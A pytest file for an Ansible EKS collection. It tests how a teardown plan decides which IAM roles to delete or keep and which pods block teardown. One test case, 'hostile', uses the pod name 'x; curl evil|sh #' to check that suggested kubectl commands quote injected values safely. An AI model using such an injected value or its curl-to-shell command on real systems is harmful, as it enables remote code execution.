# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What a teardown takes away, what stays and why, and what stands in its way."""

from __future__ import annotations

import typing as t

import pytest
from ansible_collections.enbuild.eks.plugins.module_utils._teardown import plan as teardown_plan
from ansible_collections.enbuild.eks.plugins.module_utils._teardown.plan import Desired

ROLE = "arn:aws:iam::123456789012:role/shop-orders"
S3 = "arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"
DECLARED = [{"name": "orders", "role_name": "shop-orders", "managed_policies": ["AmazonS3ReadOnlyAccess"]}]
ADDON = "arn:aws:eks:us-east-1:123456789012:addon/prod/aws-ebs-csi-driver/1"


def association(name: str = "orders", cluster: str = "prod", **more: t.Any) -> dict[str, t.Any]:
    return {
        "namespace": "shop",
        "service_account": name,
        "association_arn": f"{cluster}/{name}",
        "owner_arn": "",
        "role_arn": ROLE,
        "asked": True,
        "ours": True,
        **more,
    }


def user(name: str = "orders", cluster: str = "prod", **more: t.Any) -> dict[str, t.Any]:
    return {**association(name, cluster), "cluster_name": cluster, "region": "us-east-1", "target_role_arn": "", **more}


def role(**more: t.Any) -> dict[str, t.Any]:
    return {
        "role_name": "shop-orders",
        "role_arn": ROLE,
        "ours": True,
        "principals": ["pods.eks.amazonaws.com"],
        "inline_policies": ["shop-orders"],
        "attached_policies": [S3],
        "instance_profiles": [],
        **more,
    }


def pod(owner: str = "orders", kind: str = "Deployment", release: str = "") -> dict[str, t.Any]:
    return {"namespace": "shop", "name": f"{owner}-1", "kind": kind, "owner": owner, "release": release}


def reasons(
    users: t.Any = None,
    unread: t.Any = (),
    seen: t.Any = None,
    ended: t.Collection[str] = ("prod/orders",),
    **asked: t.Any,
) -> list[str]:
    """Why the role stays when the association of prod is gone, in an account without another."""
    desired = Desired(**{"declared": DECLARED, "ended": frozenset(ended), **asked})
    return teardown_plan.reasons(seen or role(), [user()] if users is None else users, unread, desired)


def test_a_role_goes_with_its_last_association() -> None:
    assert reasons() == []
    assert reasons(ended=[]) == ["the association of shop/orders in cluster prod in us-east-1 uses it"]


STAYS = {
    "adopted": ({"seen": role(ours=False)}, "not made by enbuild.eks"),
    "used here": (
        {"users": [user(), user("search")]},
        "the association of shop/search in cluster prod in us-east-1 uses",
    ),
    "used elsewhere": ({"users": [user(cluster="stage")]}, "shop/orders in cluster stage in us-east-1 uses it"),
    "used by an add-on": ({"users": [user("ebs", owner_arn=ADDON)]}, "shop/ebs of add-on aws-ebs-csi-driver in"),
    "used as a target": ({"users": [user("x", role_arn="other", target_role_arn=ROLE)]}, "shop/x in cluster prod"),
    "unread": (
        {"unread": [{"where": "cluster stage in us-east-1", "message": "Not you."}]},
        "whether cluster stage in us-east-1 uses it can't be read: Not you.",
    ),
}
ALTERED = {
    "inline policy": ({"inline_policies": ["shop-orders", "more"]}, "somebody else gave it more;"),
    "managed policy": ({"attached_policies": [S3, f"{S3}2"]}, f"somebody else gave it {S3}2;"),
    "EC2": ({"instance_profiles": ["web"]}, "EC2 uses it by instance profile web;"),
    "trust": ({"principals": ["pods.eks.amazonaws.com", "ec2.amazonaws.com"]}, "its trust lets in ec2.amazonaws.com;"),
}


@pytest.mark.parametrize(("more", "words"), STAYS.values(), ids=STAYS)
@pytest.mark.parametrize("altered", [False, True])
def test_a_role_stays_that_is_not_ours_or_may_be_used(more: t.Any, words: str, altered: bool) -> None:
    (reason,) = reasons(**more, altered=altered)
    assert words in reason


@pytest.mark.parametrize(("more", "words"), ALTERED.values(), ids=ALTERED)
def test_a_role_that_others_altered_stays_unless_told(more: t.Any, words: str) -> None:
    (reason,) = reasons(seen=role(**more))
    assert words in reason
    assert reason.endswith("pod_identity_teardown_altered_roles true deletes it anyway")
    assert reasons(seen=role(**more), altered=True) == []


def test_a_role_that_is_declared_by_its_arn_stays() -> None:
    (reason,) = reasons(declared=[{"name": "orders", "role_arn": ROLE}])
    assert "declared by role_arn" in reason


def test_clusters_that_end_together_free_their_role() -> None:
    users = [user(cluster="a"), user(cluster="b")]
    assert reasons(users, ended=["a/orders", "b/orders"]) == []
    assert reasons(users, ended=["b/orders"]) == ["the association of shop/orders in cluster a in us-east-1 uses it"]


HOLDERS = {
    "deployment": (pod(), ["Deployment shop/orders", "kubectl scale deployment/orders --replicas=0 -n shop"]),
    "daemonset": (pod(kind="DaemonSet"), ["kubectl delete daemonset orders -n shop"]),
    "replicaset": (pod(kind="ReplicaSet"), ["kubectl scale replicaset/orders --replicas=0 -n shop"]),
    "cronjob": (pod(kind="CronJob"), ["""kubectl patch cronjob orders -n shop -p '{"spec": {"suspend": true}}'"""]),
    "pod": (pod(kind="Pod"), ["kubectl delete pod orders -n shop"]),
    "hostile": (pod("x; curl evil|sh #", kind="Pod"), ["kubectl delete pod 'x; curl evil|sh #' -n shop"]),
    "release": (pod(release="shop/front"), ["helm uninstall front -n shop (pod_identity_teardown_release true"]),
}


@pytest.mark.parametrize(("holder", "words"), HOLDERS.values(), ids=HOLDERS)
def test_pods_that_hold_credentials_stand_in_the_way(holder: t.Any, words: list[str]) -> None:
    said = teardown_plan.obstacle([holder, holder])
    assert [word for word in [*words, "pod_identity_teardown_force true"] if said.count(word) != 1] == []


def test_pods_of_a_release_that_goes_first_do_not() -> None:
    pods = [pod(release="enbuild/enbuild")]
    assert teardown_plan.obstacle(pods, release="enbuild/enbuild") == ""
    assert "helm uninstall" in teardown_plan.obstacle(pods, release="enbuild/other")
    assert teardown_plan.obstacle([]) == ""


def test_pods_that_cannot_be_read_do_and_many_are_counted() -> None:
    assert "Give the caller an access entry." in teardown_plan.obstacle([], "Give the caller an access entry.")
    said = teardown_plan.obstacle([pod(f"o{number}") for number in range(7)])
    assert "Deployment shop/o4, and 2 more." in said


def test_the_agent_goes_with_the_last_association() -> None:
    other = association("ebs", owner_arn=ADDON, asked=False, ours=False)
    assert teardown_plan.agent_users([association()], ["prod/orders"]) == []
    assert teardown_plan.agent_users([association(), other], ["prod/orders"]) == ["shop/ebs"]
    assert teardown_plan.agent_users([association()], []) == ["shop/orders"]
